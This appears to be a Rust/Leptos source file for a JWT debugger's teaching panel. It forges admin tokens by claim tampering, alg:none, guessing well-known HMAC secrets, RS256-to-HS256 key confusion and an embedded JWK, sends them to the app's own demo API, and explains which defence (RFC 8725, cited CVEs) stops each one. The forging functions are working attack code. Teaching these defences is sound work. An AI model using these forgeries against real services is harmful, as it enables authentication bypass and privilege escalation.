//! Attack lessons: five classic ways of forging a JWT, each built in the page from the demo
//! user's real token and sent to this server's demo API on a click, with the request, the
//! server's exact answer and the defence that stopped it — or, in the demo API's vulnerable mode
//! (`DEMO_API_VULNERABLE=true`), the naive check that let it through. Folded; its code loads
//! lazily. Shown only with the demo routes on.
//!
//! Tokens are taken apart and put together with the core's base64url and serde_json; anything
//! that signs or reads public keys runs in the lazily loaded crypto module ([`crate::crypto`]).

use jwt_core::{Alg, KeyKind, b64};
use leptos::prelude::*;

use crate::components::lazy_details::{LazyDetails, body};
use serde_json::{Value, json};

use crate::components::api_panel::{ApiAnswer, reason, send_token};
use crate::crypto::{self, SignRequest};

/// One attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Change the claims, keep the signature.
    Tamper,
    /// `alg: none`, no signature.
    AlgNone,
    /// Guess the HMAC secret from the well-known ones, re-sign.
    WeakSecret,
    /// The RS256 issuer's public key (PEM text) as an HS256 secret.
    KeyConfusion,
    /// A fresh key, its public JWK in the header.
    EmbeddedJwk,
}

impl Attack {
    /// Every lesson, in the order the panel shows them.
    pub const ALL: [Attack; 5] =
        [Attack::Tamper, Attack::AlgNone, Attack::WeakSecret, Attack::KeyConfusion, Attack::EmbeddedJwk];

    /// Its `data-lesson` name.
    pub fn id(self) -> &'static str {
        match self {
            Attack::Tamper => "tamper",
            Attack::AlgNone => "alg-none",
            Attack::WeakSecret => "weak-secret",
            Attack::KeyConfusion => "key-confusion",
            Attack::EmbeddedJwk => "embedded-jwk",
        }
    }

    /// Its heading.
    pub fn title(self) -> &'static str {
        match self {
            Attack::Tamper => "Change the claims, keep the signature",
            Attack::AlgNone => "alg: none — no signature at all",
            Attack::WeakSecret => "Guess a well-known HMAC secret",
            Attack::KeyConfusion => "The RS256 public key as an HS256 secret",
            Attack::EmbeddedJwk => "Bring your own key in the header",
        }
    }

    /// The demo API route the forged token goes to.
    pub fn path(self) -> &'static str {
        match self {
            Attack::Tamper | Attack::AlgNone | Attack::WeakSecret => "/api/admin",
            Attack::KeyConfusion | Attack::EmbeddedJwk => "/api/me",
        }
    }

    /// What the attack does and what defends against it.
    pub fn explanation(self) -> &'static str {
        match self {
            Attack::Tamper => {
                "The payload is base64url, not encryption: anyone can decode it, change \"roles\" to \
                 [\"admin\"] and encode it again. The signature was computed over the original header \
                 and payload, so it no longer matches them. A server that verifies the signature with \
                 its own key refuses the token (RFC 7515 §5.2, RFC 8725 §3.3); one that only decodes it \
                 (jwt.decode instead of jwt.verify) lets you in."
            }
            Attack::AlgNone => {
                "RFC 7518 §3.6 defines \"alg\": \"none\" for tokens whose integrity is protected some \
                 other way. Libraries that took the header's word for it accepted unsigned tokens \
                 (CVE-2015-9235, node jsonwebtoken before 4.2.2). The forged token says none, claims \
                 the role admin and has an empty signature. The defence: the server fixes the \
                 algorithms it accepts (RFC 8725 §3.1) and never allows none (§3.2)."
            }
            Attack::WeakSecret => {
                "An HS256 signature can be checked offline against any number of guesses: the token \
                 alone is enough. The page tries the well-known secrets (documentation examples, \
                 tutorial defaults, \"secret\") against your real token and, when one verifies, signs a \
                 new token with the role admin. The defence is a long random key: RFC 8725 §3.5 rules \
                 out human-memorable passwords as HMAC keys and RFC 7518 §3.2 asks for at least 256 bits."
            }
            Attack::KeyConfusion => {
                "The RS256 issuer publishes its public key at /.well-known/jwks.json, as it should. A \
                 verifier that looks the key up by \"kid\" but takes the algorithm from the token computes \
                 HMAC-SHA256 with that public key's PEM text as the secret — which anyone can do too \
                 (CVE-2016-10555). The forged token keeps the issuer's kid, says HS256 and is signed \
                 with the PEM text. The defence: each key is used with exactly one algorithm, fixed by \
                 the server (RFC 8725 §3.1)."
            }
            Attack::EmbeddedJwk => {
                "RFC 7515 §4.1.3 lets a token carry a public key in its \"jwk\" header. A verifier that \
                 checks the signature with that key only proves that the token signed itself \
                 (CVE-2018-0114, node-jose). The page makes a fresh ES256 key, puts its public JWK in \
                 the header and signs with the private half. The defence: verify only with keys the \
                 server already trusts, never one the token names or carries (RFC 8725 §3.10)."
            }
        }
    }

    /// The sentence for a demo API answer: what let the token through, or which defence
    /// stopped it (read from node jsonwebtoken's message).
    pub fn verdict(self, status: u16, body: &Value) -> String {
        let message = body.get("message").and_then(Value::as_str).unwrap_or_default();
        match status {
            200..=299 => self.accepted_because().to_owned(),
            401 => match (message, self) {
                ("invalid signature", _) => {
                    "Stopped by the signature check: the server recomputes the signature over the \
                     header and payload it received with its own key, and it does not match."
                        .to_owned()
                }
                ("jwt signature is required", _) => {
                    "Stopped by the pinned algorithm: the API passes algorithms: ['HS256'], so none is \
                     not allowed and a token without a signature is refused (RFC 8725 §3.1, §3.2)."
                        .to_owned()
                }
                ("invalid algorithm", Attack::KeyConfusion) => {
                    "Stopped by the pinned algorithm: the kid selects the issuer's RSA key, and with it \
                     the API allows only RS256 (algorithms: ['RS256']), so an HS256 token is refused \
                     before any HMAC is computed (RFC 8725 §3.1)."
                        .to_owned()
                }
                ("invalid algorithm", Attack::EmbeddedJwk) => {
                    "Stopped by the pinned algorithm and key: the API verifies with its own key and \
                     algorithms: ['HS256'] and never reads the token's jwk header, so an ES256 token is \
                     refused (RFC 8725 §3.1, §3.10)."
                        .to_owned()
                }
                ("invalid algorithm", _) => {
                    "Stopped by the pinned algorithm: the API accepts only the algorithm it chose, not \
                     the one the token names (RFC 8725 §3.1)."
                        .to_owned()
                }
                ("jwt expired", _) => "Refused: the token has expired (exp is in the past).".to_owned(),
                ("", _) => "Refused with 401.".to_owned(),
                (other, _) => format!("Refused: {other}."),
            },
            403 => "The signature verified, but the claims do not hold the role admin: 403.".to_owned(),
            other => format!("The server answered {other}."),
        }
    }

    /// Why the demo API let a forged token through.
    fn accepted_because(self) -> &'static str {
        match self {
            Attack::Tamper => "The demo API let the changed token through: it did not check the signature.",
            Attack::AlgNone => {
                "The demo API, in its vulnerable mode, took \"alg\": \"none\" as \"no signature needed\", \
                 as naive code did (CVE-2015-9235). Fix: pin the algorithms (RFC 8725 §3.1, §3.2)."
            }
            Attack::WeakSecret => {
                "The server's JWT_SECRET_KEY is a publicly known secret: anyone can sign any claims \
                 with it. Fix: at least 32 random bytes, e.g. openssl rand -hex 64 (RFC 8725 §3.5)."
            }
            Attack::KeyConfusion => {
                "The demo API, in its vulnerable mode, verified HS256 with the issuer's public key \
                 text as the HMAC secret — and that text is public (CVE-2016-10555). Fix: one \
                 algorithm per key, chosen by the server (RFC 8725 §3.1)."
            }
            Attack::EmbeddedJwk => {
                "The demo API, in its vulnerable mode, verified the token with the key it carried \
                 itself (CVE-2018-0114). Fix: only keys the server already trusts (RFC 8725 §3.10)."
            }
        }
    }
}

/// How a lesson ended.
#[derive(Debug, Clone, PartialEq)]
pub enum Outcome {
    /// The forged token was sent: how it was made, the token and the API's answer.
    Sent { how: String, token: String, answer: ApiAnswer },
    /// Nothing to send (no well-known secret verifies): why.
    NotSent(String),
    /// The lesson could not run (network, crypto module).
    Failed(String),
}

/// The three segments of a compact JWS.
fn segments(token: &str) -> Result<[&str; 3], String> {
    let parts: Vec<&str> = token.split('.').collect();
    <[&str; 3]>::try_from(parts)
        .map_err(|_| "The demo token is not a compact JWS (three segments).".to_owned())
}

/// The token's payload with `roles` set to `["admin"]` (every other claim kept, in order), as
/// JSON text.
pub fn admin_claims(token: &str) -> Result<String, String> {
    let [_, payload, _] = segments(token)?;
    let bytes =
        b64::decode_strict(payload).map_err(|e| format!("The payload is not base64url: {}", e.reason))?;
    let mut claims: Value =
        serde_json::from_slice(&bytes).map_err(|e| format!("The payload is not JSON: {e}"))?;
    let object = claims.as_object_mut().ok_or("The payload is not a JSON object.")?;
    object.insert("roles".to_owned(), json!(["admin"]));
    Ok(claims.to_string())
}

/// The token with `roles: ["admin"]` in its payload and its original header and signature.
pub fn tampered(token: &str) -> Result<String, String> {
    let [header, _, signature] = segments(token)?;
    Ok(format!("{header}.{}.{signature}", b64::encode(admin_claims(token)?.as_bytes())))
}

/// An unsigned token (`{"alg":"none","typ":"JWT"}`, empty signature) with the admin claims.
pub fn unsigned(token: &str) -> Result<String, String> {
    let header = json!({"alg": "none", "typ": "JWT"}).to_string();
    Ok(format!("{}.{}.", b64::encode(header.as_bytes()), b64::encode(admin_claims(token)?.as_bytes())))
}

/// The RS256 issuer's key in a JWKS: its `kid` and the JWK's JSON text.
pub fn issuer_jwk(jwks: &str) -> Result<(String, String), String> {
    let set: Value = serde_json::from_str(jwks).map_err(|e| format!("The JWKS is not JSON: {e}"))?;
    set.get("keys")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .find(|key| key.get("kty").and_then(Value::as_str) == Some("RSA"))
        .and_then(|key| Some((key.get("kid")?.as_str()?.to_owned(), key.to_string())))
        .ok_or_else(|| "The JWKS has no RSA key with a kid.".to_owned())
}

/// What the weak-secret lesson says when no well-known secret verifies the token.
pub fn not_guessed(count: usize) -> String {
    format!(
        "None of the {count} well-known secrets verifies this token: the key could not be guessed, so \
         no admin token can be signed and nothing was sent. That is the defence: a long random key \
         (RFC 8725 §3.5; RFC 7518 §3.2)."
    )
}

/// Signs `payload` under `header` (JSON texts; `alg` is put first) with the crypto module.
async fn sign(
    header: String,
    payload: String,
    alg: Alg,
    key_kind: KeyKind,
    key_text: String,
) -> Result<String, String> {
    let outcome = crypto::sign(SignRequest { header, payload, alg, key_kind, key_text }).await?;
    outcome.token.map_err(|e| e.message)
}

/// Runs one lesson: the real token, the forgery, the request.
async fn run(attack: Attack) -> Outcome {
    match forge(attack).await {
        Ok(Forged::Token { how, token }) => match send_token(attack.path(), &token).await {
            Ok(answer) => Outcome::Sent { how, token, answer },
            Err(e) => Outcome::Failed(e),
        },
        Ok(Forged::Nothing(why)) => Outcome::NotSent(why),
        Err(e) => Outcome::Failed(e),
    }
}

/// A forged token and how it was made, or why there is none.
enum Forged {
    Token { how: String, token: String },
    Nothing(String),
}

async fn forge(attack: Attack) -> Result<Forged, String> {
    let real = net::demo_token().await?;
    let forged = |how: &str, token: String| Forged::Token { how: how.to_owned(), token };
    Ok(match attack {
        Attack::Tamper => forged(
            "Your token with \"roles\": [\"admin\"] in the payload; header and signature unchanged.",
            tampered(&real)?,
        ),
        Attack::AlgNone => forged(
            "Header {\"alg\":\"none\",\"typ\":\"JWT\"}, your claims with \"roles\": [\"admin\"], and an empty signature.",
            unsigned(&real)?,
        ),
        Attack::WeakSecret => match crypto::known_secret(real.clone()).await? {
            None => Forged::Nothing(not_guessed(crypto::known_secrets_count().await?)),
            Some(known) => {
                let token = sign(
                    json!({"typ": "JWT"}).to_string(),
                    admin_claims(&real)?,
                    Alg::HS256,
                    KeyKind::SecretUtf8,
                    known.secret.clone(),
                )
                .await?;
                Forged::Token {
                    how: format!(
                        "Your token verifies with the well-known secret {:?} ({}): re-signed with it, \"roles\": [\"admin\"].",
                        known.secret, known.source
                    ),
                    token,
                }
            }
        },
        Attack::KeyConfusion => {
            let (kid, jwk) = issuer_jwk(&net::get_text("/.well-known/jwks.json").await?)?;
            let forms = crypto::public_forms(KeyKind::Jwk, jwk).await??;
            let token = sign(
                json!({"typ": "JWT", "kid": kid}).to_string(),
                admin_claims(&real)?,
                Alg::HS256,
                KeyKind::SecretUtf8,
                forms.pem,
            )
            .await?;
            forged(
                "The issuer's JWK from /.well-known/jwks.json as SPKI PEM text, used as the HS256 secret; the issuer's kid in the header.",
                token,
            )
        }
        Attack::EmbeddedJwk => {
            let (key_text, key_kind) =
                crypto::generate(jwt_core::KeygenKind::for_alg(Alg::ES256)).await?.map_err(|e| e.message)?;
            let forms = crypto::public_forms(key_kind, key_text.clone()).await??;
            let token = sign(
                json!({"typ": "JWT", "jwk": forms.jwk}).to_string(),
                admin_claims(&real)?,
                Alg::ES256,
                key_kind,
                key_text,
            )
            .await?;
            forged(
                "A fresh P-256 key made in this page; its public JWK in the header; signed ES256 with it.",
                token,
            )
        }
    })
}

/// Requests to this origin for the lessons' inputs (the browser only).
mod net {
    /// The demo user's token from `/auth/token`; when nobody is logged in, logs in as `user`
    /// first (`/auth/bypass?token=user`: the session cookie comes with its redirect).
    pub async fn demo_token() -> Result<String, String> {
        let (status, body) = get("/auth/token", true).await?;
        let (status, body) = if status == 401 {
            get("/auth/bypass?token=user", true).await?;
            get("/auth/token", true).await?
        } else {
            (status, body)
        };
        if status != 200 {
            return Err(format!("Could not get a demo token: /auth/token answered {status}."));
        }
        serde_json::from_str::<serde_json::Value>(&body)
            .ok()
            .and_then(|v| v.get("token")?.as_str().map(str::to_owned))
            .ok_or_else(|| "The answer of /auth/token was not the expected JSON.".to_owned())
    }

    /// The body of a `200` answer to `GET path` (no cookie).
    pub async fn get_text(path: &str) -> Result<String, String> {
        match get(path, false).await? {
            (200, body) => Ok(body),
            (status, _) => Err(format!("{path} answered {status}.")),
        }
    }

    /// `GET path` of this origin, with the session cookie or without; a redirect is not
    /// followed (its status reads as 0). Status and body text.
    #[cfg(feature = "hydrate")]
    async fn get(path: &str, cookie: bool) -> Result<(u16, String), String> {
        use wasm_bindgen::JsCast;
        use wasm_bindgen_futures::JsFuture;

        let window = web_sys::window().ok_or("no browser window")?;
        let init = web_sys::RequestInit::new();
        init.set_method("GET");
        init.set_credentials(if cookie {
            web_sys::RequestCredentials::SameOrigin
        } else {
            web_sys::RequestCredentials::Omit
        });
        init.set_redirect(web_sys::RequestRedirect::Manual);
        let network = |_| "The server could not be reached.".to_owned();
        let response: web_sys::Response = JsFuture::from(window.fetch_with_str_and_init(path, &init))
            .await
            .map_err(network)?
            .dyn_into()
            .map_err(|_| "unexpected fetch result".to_owned())?;
        let status = response.status();
        if status == 0 {
            return Ok((0, String::new()));
        }
        let text = JsFuture::from(response.text().map_err(network)?).await.map_err(network)?;
        Ok((status, text.as_string().unwrap_or_default()))
    }

    #[cfg(not(feature = "hydrate"))]
    async fn get(path: &str, cookie: bool) -> Result<(u16, String), String> {
        let _ = (path, cookie);
        Err("only in the browser".to_owned())
    }
}

/// The lessons panel.
#[component]
pub fn LessonsPanel(
    /// Whether the demo API runs in its vulnerable mode (the intro says so).
    vulnerable: bool,
) -> impl IntoView {
    let open = RwSignal::new(false);
    view! {
        <LazyDetails
            class="panel lessons"
            testid="lessons"
            summary="Attack lessons"
            open=open
            body=body(move || lessons_body(vulnerable))
        />
    }
}

/// Loads the panel's code ahead of use (after hydration), so it also works offline.
pub async fn preload() {
    #[cfg(all(feature = "hydrate", feature = "split"))]
    __preload_lessons_body().await;
}

/// The panel's body (a lazily loaded chunk).
#[cfg_attr(feature = "split", lazy)]
async fn lessons_body(vulnerable: bool) -> AnyView {
    let mode = if vulnerable {
        "This server's demo API is in its vulnerable mode (DEMO_API_VULNERABLE=true): alg none, key \
         confusion and embedded keys get through, as they did with naive verification code."
    } else {
        "The demo API checks tokens as node jsonwebtoken 9 does with a pinned algorithm, so every \
         lesson should end refused — and say which defence stopped it."
    };
    view! {
        <p class="muted small">
            "Each lesson forges a token from your demo token (logging in as user when nobody is logged in), sends it to this server's demo API in an "
            <code>"Authorization: Bearer …"</code>
            " header when you press Run, and shows the request and the exact answer. " {mode}
        </p>
        {Attack::ALL.into_iter().map(lesson).collect_view()}
    }
    .into_any()
}

/// One lesson: explanation, Run, result.
fn lesson(attack: Attack) -> impl IntoView {
    let outcome = RwSignal::new(None::<Outcome>);
    let busy = RwSignal::new(false);
    let start = move |_| {
        busy.set(true);
        outcome.set(None);
        leptos::task::spawn_local(async move {
            outcome.set(Some(run(attack).await));
            busy.set(false);
        });
    };
    let heading = format!("lesson-{}-heading", attack.id());
    let labelled_by = heading.clone();
    view! {
        <section class="lesson" data-testid="lesson" data-lesson=attack.id() aria-labelledby=labelled_by>
            <h3 id=heading>{attack.title()}</h3>
            <p>{attack.explanation()}</p>
            <div class="lesson-run">
                <button
                    type="button"
                    class="button"
                    on:click=start
                    disabled=move || busy.get()
                    aria-label=format!("Run: {}", attack.title())
                >
                    "Run"
                </button>
                <span class="muted small">{format!("GET {} with the forged token", attack.path())}</span>
            </div>
            <div aria-live="polite">
                {move || {
                    if busy.get() {
                        return view! {
                            <p role="status" class="small">
                                "Running…"
                            </p>
                        }
                            .into_any();
                    }
                    outcome.get().map(|o| result(attack, o)).into_any()
                }}
            </div>
        </section>
    }
}

/// A lesson's result: the request and answer, and what it means.
fn result(attack: Attack, outcome: Outcome) -> AnyView {
    match outcome {
        Outcome::Sent { how, token, answer } => {
            let accepted = (200..300).contains(&answer.status);
            let body = serde_json::from_str::<Value>(&answer.body).unwrap_or(Value::Null);
            let verdict = attack.verdict(answer.status, &body);
            let tone = if accepted { "bad" } else { "good" };
            view! {
                <div
                    class=format!("lesson-result tone-{tone}")
                    data-testid="lesson-result"
                    data-accepted=accepted.to_string()
                >
                    <p class="small">{how}</p>
                    <p class="lesson-label">"Request"</p>
                    <pre class="lesson-request">
                        {format!("GET {}\nAuthorization: Bearer {token}", attack.path())}
                    </pre>
                    <p class="lesson-label">"Answer"</p>
                    <p>
                        <strong>{format!("{} {}", answer.status, reason(answer.status))}</strong>
                    </p>
                    {answer
                        .challenge
                        .map(|c| {
                            view! {
                                <p class="small">
                                    <code>"WWW-Authenticate: "</code>
                                    <code>{c}</code>
                                </p>
                            }
                        })}
                    <pre class="json">{answer.body}</pre>
                    <p class="lesson-verdict">
                        <strong>{if accepted { "Accepted. " } else { "Refused. " }}</strong>
                        {verdict}
                    </p>
                </div>
            }
            .into_any()
        }
        Outcome::NotSent(why) => view! {
            <div class="lesson-result tone-good" data-testid="lesson-result" data-accepted="false">
                <p class="lesson-verdict">
                    <strong>"Not sent. "</strong>
                    {why}
                </p>
            </div>
        }
        .into_any(),
        Outcome::Failed(e) => view! {
            <div class="lesson-result" data-testid="lesson-result">
                <p class="error-text" role="alert">
                    {e}
                </p>
            </div>
        }
        .into_any(),
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::indexing_slicing)]
    use super::*;

    /// A demo-style token (its signature is not checked here).
    const TOKEN: &str = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJpZCI6NCwidXNlcm5hbWUiOiJ1c2VyIiwibmFtZSI6IlVtYSBVc2VyIiwicm9sZXMiOlsidXNlciJdLCJpYXQiOjE3MDAwMDAwMDAsImV4cCI6MTcwMDAyMTYwMH0.c2lnbmF0dXJl";

    fn payload(token: &str) -> Value {
        serde_json::from_slice(&b64::decode_strict(token.split('.').nth(1).unwrap()).unwrap()).unwrap()
    }

    #[test]
    fn admin_claims_change_only_the_roles_and_keep_the_order() {
        let claims: Value = serde_json::from_str(&admin_claims(TOKEN).unwrap()).unwrap();
        let names: Vec<&String> = claims.as_object().unwrap().keys().collect();
        assert_eq!(names, ["id", "username", "name", "roles", "iat", "exp"]);
        assert_eq!(claims["roles"], json!(["admin"]));
        assert_eq!(claims["username"], "user");
        assert!(admin_claims("a.b").is_err());
        assert!(admin_claims("a.W10.c").is_err());
    }

    #[test]
    fn tampered_keeps_header_and_signature() {
        let forged = tampered(TOKEN).unwrap();
        let (old, new) = (segments(TOKEN).unwrap(), segments(&forged).unwrap());
        assert_eq!((new[0], new[2]), (old[0], old[2]));
        assert_eq!(payload(&forged)["roles"], json!(["admin"]));
    }

    #[test]
    fn unsigned_says_none_and_has_an_empty_signature() {
        let forged = unsigned(TOKEN).unwrap();
        assert!(forged.ends_with('.'));
        let decoded = jwt_core::decode(&forged);
        assert_eq!(decoded.alg.as_deref(), Some("none"));
        assert_eq!(decoded.payload.unwrap()["roles"], json!(["admin"]));
    }

    #[test]
    fn the_issuer_key_is_the_rsa_member_with_a_kid() {
        let jwks =
            r#"{"keys":[{"kty":"EC","kid":"e"},{"kty":"RSA","n":"AQAB","e":"AQAB","kid":"k1","use":"sig"}]}"#;
        let (kid, jwk) = issuer_jwk(jwks).unwrap();
        assert_eq!(kid, "k1");
        assert_eq!(serde_json::from_str::<Value>(&jwk).unwrap()["kty"], "RSA");
        assert!(issuer_jwk(r#"{"keys":[]}"#).is_err());
        assert!(issuer_jwk("nope").is_err());
    }

    #[test]
    fn verdicts_name_the_defence_from_the_answer() {
        let said = |m: &str| json!({"error": "JsonWebTokenError", "message": m});
        assert!(Attack::Tamper.verdict(401, &said("invalid signature")).contains("signature check"));
        assert!(
            Attack::AlgNone.verdict(401, &said("jwt signature is required")).contains("pinned algorithm")
        );
        let confusion = Attack::KeyConfusion.verdict(401, &said("invalid algorithm"));
        assert!(confusion.contains("RS256") && confusion.contains("§3.1"), "{confusion}");
        assert!(Attack::EmbeddedJwk.verdict(401, &said("invalid algorithm")).contains("jwk header"));
        assert!(Attack::KeyConfusion.verdict(200, &json!({})).contains("CVE-2016-10555"));
        assert!(Attack::WeakSecret.verdict(200, &json!({})).contains("publicly known"));
        assert!(Attack::Tamper.verdict(403, &json!({})).contains("admin"));
        assert_eq!(Attack::Tamper.verdict(401, &said("jwt malformed")), "Refused: jwt malformed.");
        assert!(not_guessed(312).starts_with(
            "None of the 312 well-known secrets verifies this token: the key could not be guessed"
        ));
    }

    #[test]
    fn every_lesson_has_a_distinct_name_and_a_route() {
        let ids: std::collections::HashSet<&str> = Attack::ALL.iter().map(|a| a.id()).collect();
        assert_eq!(ids.len(), 5);
        for attack in Attack::ALL {
            assert!(attack.path().starts_with("/api/"));
            let sentences = attack.explanation().matches(". ").count() + 1;
            assert!((2..=5).contains(&sentences), "{}: {sentences}", attack.id());
        }
    }
}
